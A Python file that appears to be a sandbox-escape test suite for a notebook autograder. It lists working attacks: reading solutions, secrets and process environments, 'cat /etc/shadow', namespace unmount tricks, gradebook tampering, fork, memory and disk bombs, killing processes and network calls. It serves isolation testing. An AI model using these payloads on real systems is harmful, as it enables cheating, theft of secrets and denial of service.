"""Attacks on the machine: files, memory, disk, processes, network. Each stops by itself should the walls fail."""

from scripts.attack import Attack

WRONG = "\ndef double(x):\n    return None\n"
MEETING = (
    "import os, socket, sys, threading, time\n"
    "[MEETING] = [os.path.dirname(p) for p in open('/proc/self/cmdline').read().split('\\0') if p.endswith('kernel.json')]\n"
)
FILL = """
def fill(folder, most, keep=True):
    # Writes until it may not, or `most` MiB are there; says so if it got that far.
    block, written = b"x" * 2**20, 0
    try:
        for n in range(most // 8):
            path = f"{folder}/fill-{n}"
            with open(path, "wb") as file:
                for _ in range(8):
                    written += file.write(block)
            if not keep:
                os.unlink(path)
    except OSError as error:
        print(folder, error)
    print(folder, written >> 20, "MiB")
    return written >> 20
"""


def reads(name, mechanism, code, **options):
    """An attack that reads what it should not, and prints it."""
    try_all = (
        "import glob, os, sys\n"
        "def show(path):\n"
        "    try:\n        print(path, open(path, errors='replace').read()[:200_000])\n"
        "    except OSError as error:\n        print(path, error)\n"
    )
    return Attack(name, mechanism, try_all + code + WRONG, **options)


ATTACKS = [
    # ---- reading ----
    reads(
        "reads-the-course",
        "reads solutions, secrets, the configuration and classmates' work by their paths",
        "for path in ('solutions/siege/siege.ipynb', 'secret.txt', 'nbgrader_config.py', 'unrolled_config.py',\n"
        "             'gradebook.db', 'submitted/right-1/siege/siege.ipynb', 'autograded/right-1/siege/siege.ipynb',\n"
        "             '../visible/modelbook.py'):\n"
        "    show('@COURSE@/' + path)\n"
        "    show('../../../' + path)\n",
    ),
    reads(
        "searches-the-disk",
        "walks the whole disk for notebooks, gradebooks and the model answers",
        "for folder, folders, names in os.walk('/'):\n"
        "    if folder.startswith(('/proc', '/sys', '/usr', sys.base_prefix, sys.prefix)):\n"
        "        folders.clear()\n"
        "    for name in names:\n"
        "        if name.endswith(('.ipynb', '.db', '.txt', 'config.py')) or 'modelbook' in name:\n"
        "            show(os.path.join(folder, name))\n",
    ),
    reads(
        "imports-the-answer",
        "imports the withheld module, by every way to find it",
        "import importlib, importlib.util, runpy\n"
        "sys.modules.pop('modelbook', None)\n"
        "sys.path.insert(0, '@COURSE@/../visible')\n"
        "importlib.invalidate_caches()\n"
        "for way in (lambda: importlib.import_module('modelbook'), lambda: runpy.run_module('modelbook'),\n"
        "            lambda: runpy.run_path('@COURSE@/../visible/modelbook.py')):\n"
        "    try:\n        print('GAIN' 'ED', vars(way())['double'])\n"
        "    except BaseException as error:\n        print(type(error), error)\n"
        "for path in glob.glob('@COURSE@/../visible/**', recursive=True):\n"
        "    show(path)\n",
    ),
    reads(
        "unmounts-the-mask",
        "becomes root of a namespace of its own and takes the mask off the withheld module",
        "import ctypes\n"
        "libc = ctypes.CDLL(None, use_errno=True)\n"
        "uid = os.getuid()\n"
        "if libc.unshare(0x10000000 | 0x20000) == 0:\n"
        "    open('/proc/self/setgroups', 'w').write('deny')\n"
        "    open('/proc/self/uid_map', 'w').write(f'0 {uid} 1')\n"
        "    place = os.path.realpath('@COURSE@/../visible/modelbook.py').encode()\n"
        "    print(libc.umount2(place, 2), libc.umount2(place, 0), ctypes.get_errno())\n"
        "    os.mkdir('/tmp/v')\n"
        "    print(libc.mount(os.path.dirname(place), b'/tmp/v', None, 4096, None), ctypes.get_errno())\n"
        "    show('/tmp/v/modelbook.py')\n"
        "    show(place)\n",
    ),
    reads(
        "reads-proc",
        "looks for secrets in /proc: environments, command lines, open files and memory of every process",
        "for path in glob.glob('/proc/[0-9]*/*'):\n"
        "    if path.rpartition('/')[2] in ('environ', 'cmdline', 'maps', 'mountinfo', 'status'):\n"
        "        show(path)\n"
        "for path in glob.glob('/proc/[0-9]*/fd/*') + glob.glob('/proc/[0-9]*/cwd') + glob.glob('/proc/[0-9]*/root'):\n"
        "    try:\n        print(path, os.readlink(path))\n    except OSError as error:\n        print(path, error)\n"
        "for path in glob.glob('/proc/[0-9]*/root') + glob.glob('/proc/[0-9]*/cwd'):\n"
        "    show(path + '@COURSE@/secret.txt')\n"
        "show('/proc/1/environ')\n"
        "show('/proc/@VICTIM@/environ')\n",
    ),
    reads(
        "inherited-descriptors",
        "reads from and writes to every open descriptor that it did not open",
        "for number in range(3, 256):\n"
        "    try:\n"
        "        target = os.readlink(f'/proc/self/fd/{number}')\n"
        "    except OSError:\n        continue\n"
        "    print(number, target)\n"
        "    if target.startswith('/') and not target.startswith(('/dev/', '/tmp/', '/proc/')) or '.db' in target:\n"
        "        print('GAIN' 'ED', number, target)\n",
    ),
    Attack(
        "graders-own-output",
        "writes rows of the grader's table and a terminal's commands into what its kernel was started with",
        "import os, stat\n"
        "for number in range(256):\n"
        "    try:\n"
        "        kind = os.fstat(number).st_mode\n"
        "        if stat.S_ISREG(kind) or stat.S_ISCHR(kind):\n"
        "            os.write(number, b'\\nright-1    9 of 9    0.1  \\x1b]0;harm\\x07\\n')\n"
        "            if b'[' in os.pread(number, 10**6, 0):\n                print('GAIN' 'ED')\n"
        "    except OSError as error:\n        print(number, error)" + WRONG,
    ),
    reads(
        "environment",
        "looks for secrets in its environment, its arguments and its parents'",
        "print(dict(os.environ), sys.argv, sys.orig_argv)\nprint(os.popen('env; ps axeww; cat /proc/*/environ').read())\n",
    ),
    # ---- writing ----
    Attack(
        "writes-the-course",
        "writes the gradebook, the configuration, a classmate's work and the solutions",
        "import os, sqlite3\n"
        "for path in ('gradebook.db', 'nbgrader_config.py', 'submitted/right-1/siege/siege.ipynb',\n"
        "             'solutions/siege/siege.ipynb', 'autograded/right-1/siege/siege.ipynb', 'feedback/x.html',\n"
        "             '../harm/writes-the-course'):\n"
        "    for place in ('@COURSE@/', '../../../', '/proc/1/root@COURSE@/', '/proc/1/cwd/'):\n"
        "        try:\n"
        "            os.makedirs(os.path.dirname(place + path), exist_ok=True)\n"
        "            open(place + path, 'w').write('harm')\n"
        "        except OSError as error:\n            print(error)\n"
        "try:\n"
        "    with sqlite3.connect('@COURSE@/gradebook.db') as book:\n"
        "        book.execute('update grade set manual_score = 99')\n"
        "except sqlite3.Error as error:\n    print(error)" + WRONG,
    ),
    Attack(
        "writes-the-system",
        "writes into Python, the system and what it handed in",
        "import os, sys, numpy\n"
        "for path in (numpy.__file__, sys.prefix + '/lib/harm.pth', sys.executable, '/usr/bin/harm', '/etc/passwd',\n"
        "             '/given/x', '/proc/sys/kernel/core_pattern', '/proc/sysrq-trigger', '/dev/mem',\n"
        "             '@COURSE@/../visible/modelbook.py'):\n"
        "    try:\n"
        "        open(path, 'a').close()\n"
        "        print('GAIN' 'ED', path)\n"
        "    except OSError as error:\n        print(error)" + WRONG,
    ),
    Attack(
        "links-in-the-meeting-place",
        "puts links to the instructor's files where the grader writes, reads and cleans up",
        MEETING + "for name in ('kernel.json', 'kernel-ipc-1', 'bridge', 'x'):\n"
        "    try:\n        os.unlink(f'{MEETING}/{name}')\n    except OSError:\n        pass\n"
        "    try:\n        os.symlink('@HARM@/victim.txt' if name != 'x' else '@HARM@', f'{MEETING}/{name}')\n"
        "    except OSError as error:\n        print(error)",
        "countdown",
        honest=6,
    ),
    # ---- memory and disk ----
    Attack(
        "memory-bomb",
        "takes memory until there is none",
        "kept = []\nwhile len(kept) < 200:\n    kept.append(bytearray(2**26))\nprint('GAIN' 'ED')",
        "countdown",
        honest=6,
    ),
    Attack(
        "memory-bomb-in-test",
        "asks for a terabyte while a test waits",
        "def countdown(n):\n    return b'x' * 2**40",
        "countdown",
    ),
    Attack(
        "fills-tmp",
        "fills the temporary folder, and its own",
        "import os\n" + FILL + "for place in ('/tmp', '/submission'):\n"
        "    if fill(place, 400) >= 400:\n        print('GAIN' 'ED')" + WRONG,
    ),
    Attack(
        "fills-shared-memory",
        "fills /dev/shm, /dev and /, which are memory that no limit of a process counts",
        "import os\n" + FILL + "if sum(fill(place, 600) for place in ('/dev/shm', '/dev', '/')) >= 600:\n"
        "    print('GAIN' 'ED')" + WRONG,
    ),
    Attack(
        "fills-its-own-mount",
        "mounts an unlimited folder of its own in memory, as root of a namespace of its own",
        "import ctypes, os, threading\n" + FILL + "libc = ctypes.CDLL(None, use_errno=True)\n"
        "def go():\n"
        "    if os.fork():\n        return os.wait()\n"
        "    uid = os.getuid()\n"
        "    if libc.unshare(0x10000000 | 0x20000) == 0:\n"
        "        open('/proc/self/setgroups', 'w').write('deny')\n"
        "        open('/proc/self/uid_map', 'w').write(f'0 {uid} 1')\n"
        "        os.makedirs('/tmp/mine')\n"
        "        if libc.mount(b'tmpfs', b'/tmp/mine', b'tmpfs', 0, None) == 0:\n"
        "            os.write(write, b'mounted %d' % fill('/tmp/mine', 600))\n"
        "    os._exit(0)\n"
        "read, write = os.pipe()\n"
        "go()\n"
        "os.close(write)\n"
        "if os.read(read, 99) == b'mounted 600':\n    print('GAIN' 'ED')" + WRONG,
    ),
    Attack(
        "fills-the-meeting-place",
        "fills the disk through the folder in which it meets the grader",
        MEETING + FILL + "if fill(MEETING, 600) + fill('/proc/1/root' + MEETING, 600) >= 600:\n    print('GAIN' 'ED')",
        "countdown",
        honest=6,
    ),
    Attack(
        "fills-the-disk-unseen",
        "writes files in the meeting place that have no name, so that nobody counts them",
        MEETING + "import tempfile\n"
        "kept, written = [], 0\n"
        "try:\n"
        "    while written < 600:\n"
        "        file = open(f'{MEETING}/gone', 'wb')\n"
        "        os.unlink(f'{MEETING}/gone')\n"
        "        kept.append(file)\n"
        "        for _ in range(8):\n            written += file.write(b'x' * 2**20) >> 20\n"
        "        file.flush()\n"
        "except OSError as error:\n    print(error)\n"
        "time.sleep(1.5)\n"
        "if written >= 600:\n    print('GAIN' 'ED')" + WRONG,
    ),
    Attack(
        "blinds-the-watch",
        "closed folders and paths too long for a name in the meeting place, then fills it",
        MEETING + FILL + "try:\n"
        "    os.mkdir(f'{MEETING}/closed')\n"
        "    handle = os.open(f'{MEETING}/closed', os.O_RDONLY)\n"
        "    os.chmod(f'{MEETING}/closed', 0)\n"
        "    os.chdir(MEETING)\n"
        "    for _ in range(1200):\n        os.mkdir('deep')\n        os.chdir('deep')\n"
        "except OSError as error:\n    print(error)\n"
        "if fill('.', 600) >= 600:\n    print('GAIN' 'ED')\n"
        "time.sleep(1.5)",
        "countdown",
        honest=6,
    ),
    Attack(
        "many-files-in-the-meeting-place",
        "a hundred thousand empty files where the grader looks and cleans up",
        MEETING + "try:\n"
        "    for n in range(100_000):\n        open(f'{MEETING}/{n}', 'w').close()\n"
        "    print('GAIN' 'ED')\n"
        "except OSError as error:\n    print(error)\n",
        "countdown",
        honest=6,
    ),
    # ---- processes ----
    Attack(
        "fork-bomb",
        "processes that start processes",
        "import os, time\n"
        "made = 0\n"
        "try:\n"
        "    while made < 400:\n"
        "        if os.fork() == 0:\n            time.sleep(20)\n            os._exit(0)\n"
        "        made += 1\n"
        "except OSError as error:\n    print(made, error)\n"
        "if made >= 400:\n    print('GAIN' 'ED')" + WRONG,
        needs="a normal user",
    ),
    Attack(
        "thread-bomb",
        "threads until there are no more",
        "import threading, time\n"
        "try:\n"
        "    for n in range(2000):\n        threading.Thread(target=time.sleep, args=[20], daemon=True).start()\n"
        "    print('GAIN' 'ED')\n"
        "except RuntimeError as error:\n    print(n, error)",
        "countdown",
        honest=6,
        needs="a normal user",
    ),
    Attack(
        "background-process",
        "daemons that live on and write the gradebook later",
        "import subprocess, os\n"
        "late = 'nohup setsid sh -c \"sleep 8; echo harm > @HARM@/later; sleep 7776\" >/dev/null 2>&1 &'\n"
        "subprocess.Popen(late, shell=True)\n"
        "if os.fork() == 0:\n"
        "    os.setsid()\n"
        "    if os.fork() == 0:\n"
        "        os.closerange(0, 250)\n"
        "        os.execvp('sleep', ['sleep', '7775'])\n"
        "    os._exit(0)" + WRONG,
    ),
    Attack(
        "kills-others",
        "sends every process that it can name or guess a signal, and takes hold of one (ptrace)",
        "import ctypes, os, signal\n"
        "libc = ctypes.CDLL(None, use_errno=True)\n"
        "for pid in (@VICTIM@, os.getppid(), 1):\n"
        "    print(pid, libc.ptrace(16, pid, 0, 0), ctypes.get_errno())\n"
        "for pid in [@VICTIM@, *(int(name) for name in os.listdir('/proc') if name.isdigit())]:\n"
        "    if pid not in (os.getpid(), os.getppid(), 1):\n"
        "        try:\n            os.kill(pid, signal.SIGTERM)\n        except OSError:\n            pass" + WRONG,
    ),
    Attack(
        "raises-its-limits",
        "lifts the limits that were set for it",
        "import resource\n"
        "for name in ('AS', 'NPROC', 'NOFILE', 'FSIZE', 'CPU'):\n"
        "    number = getattr(resource, 'RLIMIT_' + name)\n"
        "    try:\n"
        "        resource.setrlimit(number, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))\n"
        "        print('GAIN' 'ED', name)\n"
        "    except (ValueError, OSError) as error:\n        print(name, error)" + WRONG,
        needs="a normal user",
    ),
    Attack(
        "becomes-root",
        "set-uid programs, capabilities, devices, another root folder",
        "import ctypes, os, subprocess\n"
        "libc = ctypes.CDLL(None, use_errno=True)\n"
        "print(subprocess.run('su -c id; sudo -n id; id; cat /etc/shadow', shell=True, capture_output=True, timeout=4))\n"
        "for act in (lambda: os.setuid(0), lambda: os.chroot('/tmp'), lambda: os.mknod('/tmp/d', 0o60666, os.makedev(8, 0)),\n"
        "            lambda: open('/dev/sda', 'rb'), lambda: open('/dev/vda', 'rb'), lambda: os.setpriority(0, 0, -20)):\n"
        "    try:\n        act()\n        print('GAIN' 'ED')\n"
        "    except OSError as error:\n        print(error)\n"
        "if libc.mount(b'tmpfs', b'/tmp', b'tmpfs', 0, None) == 0 or libc.sethostname(b'harm', 4) == 0:\n"
        "    print('GAIN' 'ED')" + WRONG,
    ),
    # ---- network ----
    Attack(
        "network-of-the-host",
        "calls a service of the host: loopback, a socket in the file system, an abstract socket",
        "import socket\n"
        "for family, address in ((socket.AF_INET, ('127.0.0.1', @PORT@)), (socket.AF_UNIX, '@SOCKET@'),\n"
        "                        (socket.AF_UNIX, '\\0@SOCKET@')):\n"
        "    with socket.socket(family) as s:\n"
        "        s.settimeout(1)\n"
        "        try:\n            s.connect(address)\n            s.sendall(b'harm')\n"
        "            print('GAIN' 'ED', address)\n"
        "        except OSError as error:\n            print(error)" + WRONG,
    ),
    Attack(
        "network-outside",
        "calls the world: TCP, UDP, names",
        "import socket\n"
        "def tcp():\n    socket.create_connection(('1.1.1.1', 53), 0.7)\n"
        "def udp():\n"
        "    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n    s.connect(('1.1.1.1', 53))\n    s.send(b'x')\n"
        "def names():\n    socket.gethostbyname('example.org')\n"
        "for way in (tcp, udp, names):\n"
        "    try:\n        way()\n        print('GAIN' 'ED', way)\n"
        "    except OSError as error:\n        print(error)" + WRONG,
    ),
]
